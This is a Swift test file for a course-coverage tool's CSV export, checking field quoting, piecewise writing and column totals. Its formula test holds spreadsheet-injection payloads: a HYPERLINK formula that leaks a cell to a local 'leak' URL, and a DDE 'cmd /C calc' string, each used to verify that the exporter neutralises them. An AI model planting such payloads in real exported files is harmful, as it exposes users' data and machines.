import CoursemapAnalyse
import CoursemapLoad
import CoursemapResolve
import CoursemapModel
import Foundation
import Testing

@testable import CoursemapRender

@Suite("coverage.csv fields")
struct CoverageTableTests {
    @Test("fields with a comma, a quote or a line break are quoted, quotes doubled; others are left alone", arguments: [
        ("能分析数据（1.1.1）", "能分析数据（1.1.1）"),
        ("a,b", "\"a,b\""),
        ("说 \"好\"", "\"说 \"\"好\"\"\""),
        ("第一行\n第二行", "\"第一行\n第二行\""),
        ("Windows\r\nline", "\"Windows\r\nline\""),
        ("", ""),
    ])
    func quoting(_ field: String, _ expected: String) {
        #expect(CoverageTable.quote(field) == expected)
        var bytes: [UInt8] = [0x41]
        CoverageTable.appendQuoted(field, to: &bytes)
        #expect(bytes == [0x41] + Array(expected.utf8), "the byte writer the CSV uses quotes the same way")
    }

    @Test("a text field a spreadsheet would evaluate gets a leading quote; numbers are left alone", arguments: [
        ("=HYPERLINK(\"http://127.0.0.1/leak?\"&B3,\"查看\")", "\"'=HYPERLINK(\"\"http://127.0.0.1/leak?\"\"&B3,\"\"查看\"\")\""),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("\tcmd", "'\tcmd"), ("\r=1+1", "\"'\r=1+1\""),
        ("＝1+1", "'＝1+1"), ("-", "'-"), ("- 列表", "'- 列表"),
        ("-1.5", "-1.5"), ("12", "12"), ("0.25", "0.25"), ("a=b", "a=b"), (" =1", " =1"),
    ])
    func formulas(_ field: String, _ expected: String) {
        #expect(CoverageTable.quote(field) == expected)
    }

    @Test("the file written in pieces is the same bytes as written whole, and stops when told")
    func pieces() throws {
        let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
        let (program, _) = Resolver.resolve(ContentLoader(contentDirectory: root.appendingPathComponent("Content")).load())
        let report = try #require(CoverageAnalyser.analyse(program).first)
        let whole = CoverageTable.csv(report, program: program)
        #expect(whole.starts(with: [0xEF, 0xBB, 0xBF]))
        for pieceSize in [1, 700, Int.max] {
            var pieces: [[UInt8]] = []
            #expect(CoverageTable.csv(report, program: program, pieceSize: pieceSize) { pieces.append($0); return true })
            #expect(Array(pieces.joined()) == whole, "pieces of \(pieceSize)")
            if pieceSize == 1 { #expect(pieces.count == report.rows.count + 1, "the header, then a piece after each requirement") }
        }
        var pieces = 0
        #expect(!CoverageTable.csv(report, program: program, pieceSize: 1) { _ in pieces += 1; return false })
        #expect(pieces == 1)
    }
}

@Suite("coverage.csv columns (docs/coverage.md §8)")
struct CoverageTableColumnTests {
    @Test("scope first, reasons, and the attributed hours and minutes: per requirement they add up to its totals")
    func columns() throws {
        let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
        let (program, _) = Resolver.resolve(ContentLoader(contentDirectory: root.appendingPathComponent("Content")).load())
        let report = try #require(CoverageAnalyser.analyse(program).first { $0.scope.description == "b2b-data:中级" })
        let bytes = CoverageTable.csv(report, program: program)
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
        // No field of the shipped content holds a comma or a line break, so splitting is enough here.
        let lines = text.split(separator: "\r\n").map { $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init) }
        #expect(lines[0] == CoverageTable.header)
        #expect(lines[0].first == "范围 Scope" && lines[0].suffix(2) == ["学时 Hours", "微课时长 Minutes"])
        #expect(lines.dropFirst().allSatisfy { $0.count == 12 && $0[0] == "b2b-data:中级" })
        for row in report.rows {
            let mine = lines.filter { $0[1] == row.competency.description }
            #expect(mine.allSatisfy { $0[4] == row.reasons.map(\.rawValue).joined(separator: " ") })
            let hours = mine.filter { $0[5] == "module" }.compactMap { Hundredths.parse($0[10])?.value }.sum()
            let minutes = mine.filter { $0[5] == "lecture" }.compactMap { Hundredths.parse($0[11])?.value }.sum()
            #expect(hours == row.hours, "\(row.competency)")
            #expect(minutes == row.lectureMinutes, "\(row.competency)")
        }
        #expect(lines.contains { $0[4] == "below-level" })
    }
}
